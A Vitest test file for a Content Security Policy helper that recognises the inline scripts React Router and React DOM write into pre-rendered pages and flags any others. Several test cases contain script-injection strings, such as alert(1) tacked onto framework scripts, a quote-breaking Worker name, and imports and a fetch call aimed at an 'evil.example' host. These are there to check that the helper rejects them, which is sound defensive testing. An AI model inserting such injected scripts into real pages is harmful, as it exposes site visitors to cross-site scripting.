import { PassThrough } from "node:stream";
import { createElement, Suspense, use } from "react";
import { renderToPipeableStream } from "react-dom/server";
import { describe, expect, it } from "vitest";
import {
  frameworkScriptKind,
  frameworkScripts,
  policyProblems,
  reactRuntimeChunks,
  readReactStreamingRuntime,
} from "./framework-scripts.mjs";
import { inlineScriptElements } from "./html.mjs";

const runtime = readReactStreamingRuntime();

/** Inline scripts as React Router 7.18 writes them into a pre-rendered page (taken from a build). */
const CONTEXT =
  'window.__reactRouterContext = {"basename":"/","future":{"unstable_optimizeDeps":false,"v8_middleware":false},"routeDiscovery":{"mode":"initial"},"ssr":false,"isSpaMode":false};window.__reactRouterContext.stream = new ReadableStream({start(controller){window.__reactRouterContext.streamController = controller;}}).pipeThrough(new TextEncoderStream());';
const ROUTE_MODULES =
  'import "/assets/manifest-f3a59043.js";\nimport * as route0 from "/assets/root-C-V8wNZD.js";\nimport * as route1 from "/assets/home-DTAGDiKW.js";\n  \n  window.__reactRouterRouteModules = {"root":route0,"routes/home":route1};\n\nimport("/assets/entry.client-DSV8ET1X.js");';
const ENQUEUE =
  'window.__reactRouterContext.streamController.enqueue("[{\\"_1\\":2,\\"_3\\":-5,\\"_4\\":-5},\\"loaderData\\",{},\\"actionData\\",\\"errors\\"]\\n");';
const CLOSE = "window.__reactRouterContext.streamController.close();";

const kind = (text: string, type = "") => frameworkScriptKind(text, { type, runtime });

/** What React DOM's streaming renderer writes for a Suspense boundary that resolves after the shell. */
async function reactStreamedHtml(): Promise<string> {
  let resolve!: (value: string) => void;
  const late = new Promise<string>((done) => (resolve = done));
  const Late = () => createElement("p", null, use(late));
  const page = createElement(
    "html",
    null,
    createElement(
      "body",
      null,
      createElement(Suspense, { fallback: createElement("p", null, "…") }, createElement(Late)),
    ),
  );
  return new Promise((done, fail) => {
    const sink = new PassThrough();
    let html = "";
    sink.on("data", (chunk: Buffer) => (html += chunk.toString()));
    sink.on("end", () => done(html));
    const stream = renderToPipeableStream(page, {
      onShellReady() {
        stream.pipe(sink);
        setTimeout(() => resolve("late"), 10);
      },
      onShellError: fail,
    });
  });
}

describe("frameworkScriptKind", () => {
  it("recognises each script React Router writes", () => {
    expect(kind(CONTEXT)).toBe("router-context");
    expect(kind(ROUTE_MODULES, "module")).toBe("route-modules");
    expect(kind(ENQUEUE)).toBe("stream");
    expect(kind(CLOSE)).toBe("stream");
  });

  it("recognises the build's own start of the Intl warm-up worker, and nothing like it", () => {
    expect(kind('new Worker("/assets/intl-warmup-Ab3_x-9Z.js",{name:"pt-BR"})')).toBe("intl-warmup");
    expect(kind('new Worker("/assets/intl-warmup-Ab3_x-9Z.js",{name:"pt-BR"})', "module")).toBeUndefined();
    for (const text of [
      'new Worker("https://evil.example/intl-warmup-Ab3_x-9Z.js",{name:"es"})',
      'new Worker("/assets/other-Ab3_x-9Z.js",{name:"es"})',
      'new Worker("/assets/intl-warmup-Ab3_x-9Z.js",{name:"es"});alert(1)',
      'new Worker("/assets/intl-warmup-Ab3_x-9Z.js",{name:"es\\"+alert(1)+\\""})',
      'new Worker("/assets/intl-warmup-Ab3_x-9Z.js",{name:"es",type:"module"})',
    ]) {
      expect(kind(text), text).toBeUndefined();
    }
  });

  it("recognises React DOM's own streaming runtime and instructions, as React writes them", async () => {
    const scripts = inlineScriptElements(await reactStreamedHtml());
    expect(scripts.length).toBeGreaterThan(0);
    expect(scripts.map(({ text, type }) => kind(text, type))).toEqual(scripts.map(() => "react-streaming"));
    expect(scripts.some(({ text }) => text.includes('$RC("B:0","S:0")'))).toBe(true);
  });

  it("refuses any other script, however close to the real ones", () => {
    const injected = [
      "alert(1)",
      "",
      'window.__reactRouterContext = {"basename":"/"};alert(1);',
      "window.__reactRouterContext = alert(1);",
      "window.__reactRouterContext.streamController.enqueue(alert(1));",
      'window.__reactRouterContext.streamController.enqueue("x");alert(1);',
      '$RC("B:0","S:0");alert(1)',
      '$RC("B:0",alert(1))',
      "$RC=function(a,b){alert(1)};",
      `${runtime[0]}alert(1)`,
    ];
    for (const text of injected) expect(kind(text), text).toBeUndefined();
    // Route module imports from the site only, and only in a module script.
    expect(kind('import "https://evil.example/x.js";', "module")).toBeUndefined();
    expect(kind('import("/assets/a.js");alert(1);', "module")).toBeUndefined();
    expect(kind('import "/assets/a.js";\nalert(1);', "module")).toBeUndefined();
    expect(kind(ROUTE_MODULES)).toBeUndefined();
    expect(kind(CONTEXT, "module")).toBeUndefined();
  });
});

describe("reactRuntimeChunks", () => {
  it("reads the function-defining string literals, decoding escapes", () => {
    const source = `var a = x('$RX=function(b){b.data="$!"};'), b = x("requestAnimationFrame(function(){$RT=1})\\x3c"), c = x('$RC("');`;
    expect(reactRuntimeChunks(source).sort()).toEqual([
      '$RX=function(b){b.data="$!"};',
      "requestAnimationFrame(function(){$RT=1})<",
    ]);
  });
});

describe("frameworkScripts and policyProblems", () => {
  const page = (body: string) =>
    `<html><head><script type="application/ld+json">{"@type":"Article"}</script><script>${CONTEXT}</script><script type="module" async="">${ROUTE_MODULES}</script></head><body>${body}<script>${ENQUEUE}</script><script>${CLOSE}</script></body></html>`;

  it("hashes only React Router's scripts and finds nothing to refuse in its page", () => {
    const html = page("<p>hi</p>");
    expect(frameworkScripts(html, runtime)).toEqual([CONTEXT, ROUTE_MODULES, ENQUEUE, CLOSE]);
    expect(policyProblems(html, runtime)).toEqual([]);
  });

  it("reports an injected inline script (never hashed) and style attributes", () => {
    const html = page(`<td style="text-align:center">x</td><script>fetch("https://evil.example")</script>`);
    expect(frameworkScripts(html, runtime)).not.toContain('fetch("https://evil.example")');
    expect(policyProblems(html, runtime)).toEqual([
      `an inline script React Router did not write: "fetch(\\"https://evil.example\\")"`,
      `style="" attributes (use classes instead)`,
    ]);
  });
});
